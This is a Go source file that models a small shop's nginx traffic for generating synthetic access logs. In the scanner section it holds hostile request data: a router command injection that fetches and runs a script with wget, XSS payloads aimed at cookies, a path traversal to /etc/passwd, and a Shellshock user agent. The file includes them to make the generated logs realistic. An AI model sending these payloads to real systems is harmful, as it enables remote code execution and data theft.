package loggen

// The traffic model: what a small shop's nginx pair sees in a day, scaled to
// any rate. Tables here are immutable; New compiles them (escaping included)
// into the generator so that Next only picks and copies.

// class says how a route behaves: who calls it, how its statuses, sizes
// and latencies are distributed.
type class uint8

const (
	classPage    class = iota // HTML from the application
	classAPI                  // JSON API behind an upstream
	classStatic               // files served by nginx itself: no upstream
	classProbe                // health checks: tiny, fast, always 200
	classScanner              // junk aimed at the default server
)

// routeSpec is a request template. Path placeholders:
// {id} a numeric id, {uuid} a user's UUID, {hash} 8 hex digits,
// {page} a small page number, {slug} a category, {q} a search term,
// {w} an image width, {off} a list offset.
type routeSpec struct {
	method string
	weight int
	path   string
	class  class
	ok     int     // status when nothing goes wrong
	latMs  float64 // median $request_time in ms (log-normal)
	sigma  float64 // log-normal shape of the latency
	size   float64 // median $body_bytes_sent of a full response
	cache  bool    // clients revalidate it: 304s
	status int     // classScanner: the status nginx answers with
}

type vhostSpec struct {
	name      string
	weight    int
	routes    []routeSpec
	upstreams []string // upstream servers; empty for nginx-only vhosts
	referers  []weighted
	uas       uaMix
}

type weighted struct {
	s string
	w int
}

// uaMix gives per mille of requests from browsers, apps, bots and scanners.
type uaMix struct{ browser, app, bot, scanner int }

var vhostSpecs = []vhostSpec{
	{
		name: "shop.example.com", weight: 40,
		upstreams: []string{"10.0.1.11:8080", "10.0.1.12:8080", "10.0.1.13:8080", "10.0.1.14:8080"},
		uas:       uaMix{browser: 900, app: 0, bot: 90, scanner: 10},
		referers: []weighted{
			{"", 35}, {"https://shop.example.com/", 25}, {"https://shop.example.com/category/shoes?page=2", 8},
			{"https://shop.example.com/cart", 5}, {"https://www.google.com/", 15}, {"https://www.bing.com/", 3},
			{"https://duckduckgo.com/", 2}, {"android-app://com.google.android.gm/", 1},
			{"https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2F", 2},
			{"https://shop.example.com/search?q=caf%C3%A9+cr%C3%A8me", 4},
		},
		routes: []routeSpec{
			{method: "GET", weight: 80, path: "/", class: classPage, ok: 200, latMs: 45, sigma: 0.7, size: 38000, cache: false},
			{method: "GET", weight: 200, path: "/products/{id}", class: classPage, ok: 200, latMs: 60, sigma: 0.8, size: 52000},
			{method: "GET", weight: 80, path: "/category/{slug}?page={page}&sort=price_asc", class: classPage, ok: 200, latMs: 90, sigma: 0.8, size: 64000},
			{method: "GET", weight: 60, path: "/search?q={q}", class: classPage, ok: 200, latMs: 140, sigma: 0.9, size: 41000},
			{method: "GET", weight: 40, path: "/cart", class: classPage, ok: 200, latMs: 35, sigma: 0.6, size: 22000},
			{method: "POST", weight: 30, path: "/cart/items", class: classAPI, ok: 200, latMs: 55, sigma: 0.6, size: 900},
			{method: "POST", weight: 8, path: "/checkout", class: classPage, ok: 200, latMs: 350, sigma: 0.7, size: 12000},
			{method: "GET", weight: 20, path: "/account/orders/{id}", class: classPage, ok: 200, latMs: 70, sigma: 0.7, size: 28000},
			{method: "GET", weight: 10, path: "/favicon.ico", class: classStatic, ok: 200, latMs: 0.2, sigma: 0.5, size: 15086, cache: true},
			{method: "GET", weight: 4, path: "/robots.txt", class: classStatic, ok: 200, latMs: 0.2, sigma: 0.5, size: 112},
			{method: "HEAD", weight: 5, path: "/", class: classProbe, ok: 200, latMs: 20, sigma: 0.4, size: 0},
		},
	},
	{
		name: "api.example.com", weight: 35,
		upstreams: []string{"10.0.2.21:9000", "10.0.2.22:9000", "10.0.2.23:9000", "10.0.2.24:9000", "10.0.2.25:9000", "10.0.2.26:9000"},
		uas:       uaMix{browser: 450, app: 530, bot: 10, scanner: 10},
		referers: []weighted{
			{"", 70}, {"https://shop.example.com/", 20}, {"https://shop.example.com/cart", 6}, {"https://shop.example.com/checkout", 4},
		},
		routes: []routeSpec{
			{method: "GET", weight: 200, path: "/api/v1/orders/{id}", class: classAPI, ok: 200, latMs: 25, sigma: 0.8, size: 1800},
			{method: "GET", weight: 80, path: "/api/v1/orders?limit=50&offset={off}", class: classAPI, ok: 200, latMs: 80, sigma: 0.9, size: 24000},
			{method: "POST", weight: 40, path: "/api/v1/orders", class: classAPI, ok: 201, latMs: 95, sigma: 0.7, size: 1900},
			{method: "PUT", weight: 20, path: "/api/v1/orders/{id}", class: classAPI, ok: 200, latMs: 70, sigma: 0.7, size: 1850},
			{method: "DELETE", weight: 10, path: "/api/v1/orders/{id}/items/{id}", class: classAPI, ok: 204, latMs: 40, sigma: 0.6, size: 0},
			{method: "GET", weight: 60, path: "/api/v1/users/{uuid}", class: classAPI, ok: 200, latMs: 20, sigma: 0.7, size: 950},
			{method: "GET", weight: 40, path: "/users/{uuid}/avatar", class: classAPI, ok: 200, latMs: 8, sigma: 0.6, size: 18000, cache: true},
			{method: "OPTIONS", weight: 30, path: "/api/v1/orders", class: classAPI, ok: 204, latMs: 1, sigma: 0.5, size: 0},
			{method: "POST", weight: 20, path: "/api/v1/auth/token", class: classAPI, ok: 200, latMs: 120, sigma: 0.5, size: 720},
			{method: "PATCH", weight: 5, path: "/api/v1/users/{uuid}", class: classAPI, ok: 200, latMs: 45, sigma: 0.6, size: 960},
			{method: "GET", weight: 30, path: "/healthz", class: classProbe, ok: 200, latMs: 1, sigma: 0.4, size: 15},
		},
	},
	{
		name: "static.example.com", weight: 22,
		uas: uaMix{browser: 960, app: 20, bot: 20},
		referers: []weighted{
			{"", 10}, {"https://shop.example.com/", 40}, {"https://shop.example.com/products/184467", 20},
			{"https://shop.example.com/category/shoes?page=2", 20}, {"https://shop.example.com/static/css/main.3f9a1c2e.css", 10},
		},
		routes: []routeSpec{
			{method: "GET", weight: 60, path: "/static/js/app.{hash}.js", class: classStatic, ok: 200, latMs: 2, sigma: 1.0, size: 182000, cache: true},
			{method: "GET", weight: 40, path: "/static/css/main.{hash}.css", class: classStatic, ok: 200, latMs: 1, sigma: 1.0, size: 41000, cache: true},
			{method: "GET", weight: 100, path: "/images/products/{id}.jpg?w={w}", class: classStatic, ok: 200, latMs: 1.5, sigma: 1.2, size: 64000, cache: true},
			{method: "GET", weight: 20, path: "/fonts/inter-var.woff2", class: classStatic, ok: 200, latMs: 1, sigma: 1.0, size: 98000, cache: true},
			{method: "HEAD", weight: 5, path: "/images/products/{id}.jpg", class: classStatic, ok: 200, latMs: 0.2, sigma: 0.5, size: 0},
		},
	},
	{
		// The catch-all server (server_name _): scanners, bare-IP requests.
		name: "_", weight: 3,
		uas: uaMix{browser: 100, app: 100, bot: 50, scanner: 750},
		referers: []weighted{
			{"", 90}, {"http://203.0.113.10/", 8}, {`https://evil.example/"><script>alert(1)</script>`, 2},
		},
		routes: []routeSpec{
			{method: "GET", weight: 30, path: "/", class: classScanner, status: 200, latMs: 0.2, sigma: 0.5, size: 615},
			{method: "GET", weight: 20, path: "/.env", class: classScanner, status: 404, latMs: 0.2, sigma: 0.5, size: 153},
			{method: "GET", weight: 20, path: "/wp-login.php", class: classScanner, status: 404, latMs: 0.2, sigma: 0.5, size: 153},
			{method: "GET", weight: 10, path: "/phpmyadmin/index.php", class: classScanner, status: 404, latMs: 0.2, sigma: 0.5, size: 153},
			{method: "POST", weight: 5, path: "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F198.51.100.66%2Ft+-O-+%7Csh%60)", class: classScanner, status: 405, latMs: 0.2, sigma: 0.5, size: 157},
			{method: "GET", weight: 5, path: `/search?q="><script>alert(document.cookie)</script>`, class: classScanner, status: 400, latMs: 0.2, sigma: 0.5, size: 157},
			{method: "GET", weight: 5, path: `/..%2f..%2f..%2fetc/passwd\x00`, class: classScanner, status: 400, latMs: 0.1, sigma: 0.5, size: 157},
			{method: "GET", weight: 5, path: "/robots.txt", class: classScanner, status: 404, latMs: 0.2, sigma: 0.5, size: 153},
		},
	},
}

// User agents, real ones. Some carry what nginx must escape: a '"' (the
// shellshock probe), a backslash, a tab, and non-ASCII device names.
var (
	browserUAs = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.6668.81 Mobile Safari/537.36",
		"Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.6613.146 Mobile Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36 Edg/129.0.0.0",
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
		"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
		"Mozilla/5.0 (Linux; Android 12; Планшет Digma) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Safari/537.36",
		"Mozilla/5.0 (iPad; CPU OS 16_7_10 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
	}
	appUAs = []string{
		"okhttp/4.12.0",
		"ShopApp/3.14.2 (iPhone; iOS 17.6; Scale/3.00)",
		"ShopApp/3.14.1 (Android 14; Pixel 8)",
		"python-requests/2.32.3",
		"curl/8.5.0",
		"Go-http-client/1.1",
		"Go-http-client/2.0",
		"axios/1.7.7",
		"Java/17.0.12",
	}
	botUAs = []string{
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
		"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
		"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
		"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
	}
	scannerUAs = []string{
		"", // no User-Agent header: logged as "-"
		"Mozilla/5.0 zgrab/0.x",
		"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
		"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
		"sqlmap/1.8.9#stable (https://sqlmap.org)",
		`() { :; }; echo; echo; /bin/bash -c "cat /etc/passwd"`,
		`Mozilla/5.0 (X11; Linux x86_64) "><script>alert(1)</script>`,
		"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\tC:\\Windows\\system32",
	}
	probeUAs = []string{"kube-probe/1.30", "Blackbox Exporter/0.25.0", "keepalived/2.2.8"}
)

var slugs = []string{"shoes", "laptops", "garden-tools", "kids", "coffee-machines", "bikes", "phones", "books", "caf%C3%A9"}
var queries = []string{"running+shoes", "usb-c+cable", "iphone+15", "caf%C3%A9+cr%C3%A8me", "gift", "winter+jacket", "lego", "%D0%BD%D0%BE%D1%83%D1%82%D0%B1%D1%83%D0%BA"}
var widths = []string{"200", "400", "800", "1600"}

// statusWeight is a status that replaces a route's normal one, with its
// weight in 100000 requests.
type statusWeight struct {
	status int
	w      int
}

// What goes wrong, per 100000 requests of an application route: 200 stays
// dominant (~95%), then the usual redirects, client errors, clients giving up
// (499) and a small tail of upstream failures.
var appStatuses = []statusWeight{
	{301, 300}, {302, 700}, {400, 300}, {401, 400}, {403, 200}, {404, 1800}, {429, 100},
	{499, 400}, {500, 250}, {502, 200}, {503, 120}, {504, 80},
}

// Files nginx serves itself: revalidations, missing files, range requests.
var staticStatuses = []statusWeight{{206, 500}, {403, 50}, {404, 2500}, {499, 150}}

// cacheable routes additionally answer 304 this often (per 100000).
const notModified = 15000

// Rates of valid-but-odd lines, per million lines.
const (
	tlsPerMillion   = 1000 // a TLS ClientHello sent to the plain-HTTP port
	emptyPerMillion = 1500 // a connection closed before any request: "-" 400 0
)

// Upstream oddities, per million upstream requests.
const (
	retryPerMillion = 12000 // proxy_next_upstream: "0.001, 0.250" / "502, 200"
	groupPerMillion = 2000  // error_page to a named location: "503 : 200"
	outlierPerMil   = 3000  // multi-second latency outliers
)

// nginx's own error pages (server_tokens off), by status.
func nginxPageSize(status int) int64 {
	switch status {
	case 301:
		return 162
	case 302:
		return 138
	case 400:
		return 150
	case 403:
		return 146
	case 404:
		return 146
	case 405:
		return 150
	case 500:
		return 170
	case 502:
		return 150
	case 503:
		return 190
	case 504:
		return 160
	}
	return 0
}

// tlsClientHello is the start of a TLS 1.2/1.3 ClientHello as nginx logs it
// for $request when a client speaks TLS to a plain-HTTP listener.
const tlsClientHello = "\x16\x03\x01\x00\xca\x01\x00\x00\xc6\x03\x03\x8f\x1d\x9a\x06\xb3\x4e\x7c\x21\xd0\x55\xe2\x18\x93\x6a\xfe\x40\x0b\x32\x71\x9c\x5d\xe8\x13\x04\xa7\x6f\x2c\xb9\x81\x3e\x5a\xd4\x20\x7b"
